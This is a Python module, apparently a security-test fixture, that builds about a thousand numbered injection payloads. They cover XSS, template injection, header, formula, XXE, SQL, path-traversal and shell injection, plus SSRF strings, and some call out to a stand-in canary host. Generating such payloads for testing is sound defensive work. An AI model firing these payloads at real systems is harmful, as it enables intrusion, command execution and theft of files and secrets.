"""A thousand things nobody should be able to write anywhere: families × what stands around them × how they
are spelt. Each carries its own number, so that whatever comes of one names it.

`@JS@` runs if anything does, `@URL@` is asked for if anything is, `@SUM@` is worked out if any template is.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from urllib.parse import quote

CANARY_HOST = "canary.invalid"
FACTORS, SUM = "1337*7331", "9801547"

MARKUP: dict[str, list[str]] = {
    "script": [
        "<script>@JS@</script>",
        "<script src=@URL@></script>",
        "<script/src='@URL@'/>",
        "<scr<script>ipt>@JS@</scr</script>ipt>",
        "<script type=module>import '@URL@'</script>",
    ],
    "handler": [
        "<img src=x onerror=@JS@>",
        "<img/src='x'/onerror='@JS@'/>",
        "<body onload=@JS@>",
        "<input autofocus onfocus=@JS@>",
        "<details open ontoggle=@JS@>",
        "<video src=x onerror=@JS@>",
        "<video><source onerror=@JS@>",
        "<marquee onstart=@JS@>",
        "<a href=# onmouseover=@JS@>a</a>",
        "<style onload=@JS@></style>",
        "<x tabindex=1 autofocus onfocus=@JS@ contenteditable>",
        "<img src=x onerror\n=@JS@>",
        "<div style=animation:x onanimationstart=@JS@><style>@keyframes x{}</style>",
    ],
    "foreign": [
        "<svg onload=@JS@>",
        "<svg><script>@JS@</script></svg>",
        "<svg><animate onbegin=@JS@ attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:@JS@'><text y=20>a</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=@JS@>#x'/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.@JS@</script>'></foreignObject></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:@JS@>a</maction></math>",
        "<svg><image href=@URL@ /></svg>",
    ],
    "mutation": [
        "<noscript><p title='</noscript><img src=x onerror=@JS@>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@JS@&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=@JS@>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@JS@>",
        "<template><img src=x onerror=@JS@></template>",
        "<table><td><a href='</table><img src=x onerror=@JS@>'>",
        "<listing>&lt;img src=x onerror=@JS@&gt;</listing>",
        "<select><template><style></select><img src=x onerror=@JS@>",
        "<xmp><p title='</xmp><img src=x onerror=@JS@>'>",
        "<p title='<!--'><img src=x onerror=@JS@>-->",
    ],
    "frame": [
        "<iframe src='javascript:parent.@JS@'></iframe>",
        "<iframe srcdoc='<script>parent.@JS@</script>'></iframe>",
        "<iframe src=@URL@></iframe>",
        "<object data='data:text/html,<script>parent.@JS@</script>'></object>",
        "<embed src=@URL@>",
        "<base href=@URL@/>",
        "<meta http-equiv=refresh content='0;url=@URL@'>",
        "<meta http-equiv=refresh content='0;url=javascript:@JS@'>",
        "<link rel=stylesheet href=@URL@>",
        "<form action=@URL@><input autofocus><button>Sign in</button></form>",
        "<button form=x formaction=javascript:@JS@>a</button>",
        "<plaintext>",
        "<textarea autofocus onfocus=@JS@>",
    ],
    "style": [
        "<style>body{background:url(@URL@)}</style>",
        "<style>@import '@URL@';</style>",
        "<p style='background:url(@URL@)'>a</p>",
        "<p style='position:fixed;inset:0;background:image-set(\"@URL@\" 1x)'>a</p>",
        "<img srcset='@URL@ 1x'>",
        "<table background=@URL@><td>a</table>",
        "<video poster=@URL@></video>",
    ],
    "link": [
        "<a href='javascript:@JS@'>a</a>",
        "<a href='jav&#x09;ascript:@JS@'>a</a>",
        "<a href='&#1;javascript:@JS@'>a</a>",
        "<a href='data:text/html,<script>@JS@</script>'>a</a>",
        "<area href='javascript:@JS@'>",
        "<a href='//@URL@' ping='@URL@'>a</a>",
    ],
}

AROUND: dict[str, str] = {
    "alone": "@",
    "in a sentence": "Tea & <3 biscuits, “@” (100 %)",
    "after a double quote": 'x" @',
    "after a quote": "x' @",
    "out of an attribute": '">@',
    "out of a quoted attribute": "'>@",
    "out of a script": "</script>@<!--",
    "out of a text": "</textarea></title></style></noscript>@",
    "out of a comment": "-->@<!--",
    "out of a page": "</p></div></main></body></html>@",
    "out of CDATA": "]]>@<![CDATA[",
}


def entities(text: str) -> str:
    return "".join(f"&#{ord(each)};" if not each.isalnum() else each for each in text)


def wide(text: str) -> str:
    """As the wide letters of East Asia, which compatibility normalisation makes plain ones."""
    return "".join(chr(ord(each) + 0xFEE0) if each in "<>\"'/=()" else each for each in text)


SPELT: dict[str, Callable[[str], str]] = {
    "entities": entities,
    "entities twice": lambda text: entities(text).replace("&", "&amp;"),
    "percent": quote,
    "wide": wide,
    "escapes of JavaScript": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    "invisible letters": lambda text: text.replace("<", "<\u200b").replace("=", "\u2060="),
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("img", "IMG").replace("svg", "SVG"),
}

PLAIN: dict[str, list[str]] = {
    "address": [
        "javascript:@JS@",
        "JaVaScRiPt:@JS@",
        "java\tscript:@JS@",
        "java\nscript:@JS@",
        " javascript:@JS@",
        "\x01javascript:@JS@",
        "javascript://%0a@JS@",
        "javascript://example.com/%0a@JS@",
        "javascript&colon;@JS@",
        "vbscript:@JS@",
        "data:text/html,<script>@JS@</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@N@",
        "//@HOST@/@N@",
        "/\\@HOST@/@N@",
        "\\\\@HOST@\\@N@",
        "https:@HOST@/@N@",
        "https://example.com@@HOST@/@N@",
        "file:///etc/passwd#@N@",
        "http://169.254.169.254/latest/meta-data/@N@",
        'https://example.com/"onmouseover="@JS@',
        "https://example.com/'onmouseover='@JS@",
        'https://example.com/"><script>@JS@</script>',
        "blob:https://@HOST@/@N@",
        "ftp://@HOST@/@N@",
    ],
    "template": [
        "{{ @FACTORS@ }}@N@",
        "{{@FACTORS@}}@N@",
        "{% widthratio 1337 1 7331 %}@N@",
        "{% load static %}{% debug %}@N@",
        "{{ settings.SECRET_KEY }}@N@",
        "{{ request.user.password }}@N@",
        "{{ self.__class__.__mro__ }}@N@",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}@N@",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}@N@",
        "{% include 'admin/base.html' %}@N@",
        "{% extends 'layout.html' %}@N@",
        '{% include "/etc/passwd" %}@N@',
        "{# @N@ #}",
        "{% comment %}@N@",
        "{% verbatim %}{{ @FACTORS@ }}@N@",
        "{x.__class__}@N@",
        "{0.__class__.__init__.__globals__}@N@",
        "{shop.__class__}@N@",
        "{name.__class__.__mro__}@N@",
        "{name!r}@N@",
        "{name:>99999}@N@",
        "{@N@",
        "}@N@{",
        "{}{0}{}@N@",
        "%(name)s%(settings)s%s%n@N@",
        "%s%s%d%99999d@N@",
        "%@N@",
        "${@FACTORS@}@N@",
        "#{@FACTORS@}@N@",
        "<%= @FACTORS@ %>@N@",
        "${{@FACTORS@}}@N@",
        "$settings ${SECRET_KEY} $@N@",
        "[[@FACTORS@]]@N@",
        "<mj-raw><script>@JS@</script></mj-raw>",
        "</mj-text></mj-column><mj-raw><img src=x onerror=@JS@></mj-raw>",
        '<mj-include path="/etc/passwd" />@N@',
        '<mj-include path="/etc/passwd" type="html" />@N@',
        "<mj-button href='javascript:@JS@'>a</mj-button>",
        "<mj-style>body{background:url(@URL@)}</mj-style>",
    ],
    "header": [
        "Tea\r\nBcc: all@@HOST@\r\n@N@",
        "Tea\nBcc: all@@HOST@\n@N@",
        "Tea\rSet-Cookie: a=@N@",
        "Tea\r\n\r\n<script>@JS@</script>",
        "Tea%0d%0aBcc:%20all@@HOST@@N@",
        "Tea\u2028Bcc: all@@HOST@\u2029@N@",
        "Tea\x0bBcc: all@@HOST@\x0c@N@",
        "Tea\x85Bcc: all@@HOST@ @N@",
        "=?utf-8?q?=0d=0aBcc:=20all@@HOST@?= @N@",
        "Tea <all@@HOST@>, @N@",
        '"Tea" <all@@HOST@>; @N@',
        "--boundary\r\nContent-Type: text/html\r\n\r\n<script>@JS@</script>",
    ],
    "unseen": [
        "exe.\u202ecod@N@",
        "\u2066Tea\u2069\u2067@N@",
        "Te\u200ba\u200c\u200d\ufeff@N@",
        "\x07bell\x08back\x1bescape\x7f@N@",
        "\x01\x02\x03\x0e\x1f@N@",
        "\ufffe\uffff@N@",
        "\U000e0054\U000e0065\U000e0061@N@",
        "Z" + "\u0300\u0301\u0316\u0317" * 20 + "@N@",
        "\u0430dmin@N@",
        "ﬃ\u212a\u017f\u0131\u0130@N@",
        "\u202e<script>@JS@</script>",
        "<\u0338script>@JS@</\u0338script>",
        "\ufdfa" * 8 + "@N@",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467@N@",
    ],
    "formula": [
        '=HYPERLINK("https://@HOST@/@N@")',
        "=cmd|' /C calc'!A@N@",
        "+@FACTORS@+cmd|' /C calc'!A@N@",
        "-@FACTORS@+cmd|' /C calc'!A@N@",
        "@SUM(1+1)*cmd|' /C calc'!A@N@",
        "\t=@FACTORS@+@N@",
        "\r=@FACTORS@+@N@",
        "\n=@FACTORS@+@N@",
        '=IMPORTXML("https://@HOST@/@N@","//a")',
        '";=@FACTORS@+@N@;"',
        '",=@FACTORS@+@N@,"',
        "＝@FACTORS@＋@N@",
        '=DDE("cmd";"/C calc";"@N@")',
    ],
    "entity": [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;@N@</x>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "https://@HOST@/@N@">]><x>&e;</x>',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;@N@</x>',
        '<?xml-stylesheet href="@URL@"?>',
        "<?php echo @FACTORS@; ?>@N@",
        "]]><script>@JS@</script>",
        '<xi:include href="file:///etc/passwd"/>@N@',
        "&lt;script&gt;@JS@&lt;/script&gt;",
        "&amp;lt;script&amp;gt;@JS@",
        "&nosuch;&#0;&#x110000;@N@",
    ],
    "json": [
        "</script><!--<script>@JS@",
        "<!--<script>@N@",
        '"};@JS@;//',
        "';@JS@;//",
        "\\';@JS@;//",
        "`${@JS@}`",
        "\u2028@JS@\u2029",
        "\\u0022};@JS@//",
        '{"__proto__":{"polluted":"@N@"}}',
        "</script/x><svg/onload=@JS@>",
        "</SCRIPT\t><img src=x onerror=@JS@>",
        "*/@JS@/*",
        "</style><svg/onload=@JS@>",
        "red;}body{background:url(@URL@)}x{",
        "red;background:url(@URL@)",
        "expression(@JS@)",
    ],
    "query": [
        "'; DROP TABLE orders_order; --@N@",
        "' OR '1'='1' --@N@",
        "' UNION SELECT password FROM base_user --@N@",
        "%' OR 1=1 --@N@",
        "tea & | ! ( ) : * <-> @N@",
        "\\@N@",
        "../../../../etc/passwd@N@",
        "..\\..\\windows\\win.ini@N@",
        "$(id)`id`|id;@N@",
    ],
    "polyglot": [
        (
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@JS@ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
            "</scRipt/--!>\\x3csVg/<sVg/oNloAd=@JS@//>\\x3e"
        ),
        "'\">><marquee><img src=x onerror=@JS@></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=@JS@>",
        "\"'--></style></script></title></textarea><svg onload=@JS@>{{@FACTORS@}}${@FACTORS@}",
        "{{@FACTORS@}}<img src=x onerror=@JS@>'\"`=1+1\r\nBcc: a@@HOST@",
        (
            "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
            '<html \\" onmouseover=/*&lt;svg/*/onload=@JS@//>'
        ),
    ],
    "long": [
        "@N@" + "W" * 4000,
        "@N@" + "<b>" * 1500,
        "@N@" + "&" * 3000,
        "@N@" + "\u202e" * 200 + "<img src=x onerror=@JS@>",
        "@N@" + "(" * 2000 + ")" * 2000,
    ],
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    number: int
    family: str
    text: str

    def __str__(self) -> str:
        return self.text


def _spelt() -> Iterator[tuple[str, str]]:
    for family, templates in MARKUP.items():
        for template in templates:
            for around in AROUND.values():
                yield family, around.replace("@", template, 1)
            for spell in SPELT.values():
                yield family, _kept(spell, template)
    for family, templates in PLAIN.items():
        for template in templates:
            yield family, template


def _kept(spell: Callable[[str], str], template: str) -> str:
    """Spelt, but for what is filled in afterwards."""
    marks = ("@JS@", "@URL@")
    for at, mark in enumerate(marks):
        template = template.replace(mark, f"mark{at}mark")
    spelt = spell(template)
    for at, mark in enumerate(marks):
        spelt = spelt.replace(f"mark{at}mark", mark)
    return spelt


@cache
def payloads() -> tuple[Payload, ...]:
    """All of them, the same ones in the same order each time."""
    return tuple(
        Payload(number, family, _filled(template, number))
        for number, (family, template) in enumerate(dict.fromkeys(_spelt()), start=1000)
    )


def _filled(template: str, number: int) -> str:
    known = {"JS": f"pwned({number})", "URL": f"//{CANARY_HOST}/{number}", "FACTORS": FACTORS}
    known |= {"HOST": CANARY_HOST, "N": str(number)}
    for name, value in known.items():
        template = template.replace(f"@{name}@", value)
    return template


def of_families(*families: str) -> tuple[Payload, ...]:
    return tuple(each for each in payloads() if each.family in families)


def emails() -> Iterator[str]:
    """Addresses that are allowed to look like this."""
    for each in payloads():
        if each.family in ("handler", "template", "formula") and len(each.text) < 60:
            local = each.text.replace("\\", "").replace('"', "'").replace("\n", " ")
            yield f'"{local}"@example.com'
